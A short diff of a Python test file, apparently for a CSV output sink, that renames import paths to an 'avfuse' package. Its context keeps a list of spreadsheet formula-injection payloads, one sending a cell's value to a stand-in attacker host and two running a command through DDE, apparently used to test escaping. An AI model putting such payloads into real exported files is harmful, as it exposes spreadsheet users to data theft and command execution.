@@ -9,8 +9,8 @@ import io
 import pytest
 from onnx_models import colour_model, colour_video
 
-from stream.cli import main
-from stream.sinks.csv import CsvSink
+from avfuse.stream.cli.main import main
+from avfuse.stream.run.sinks.csv import CsvSink
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"red")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
 
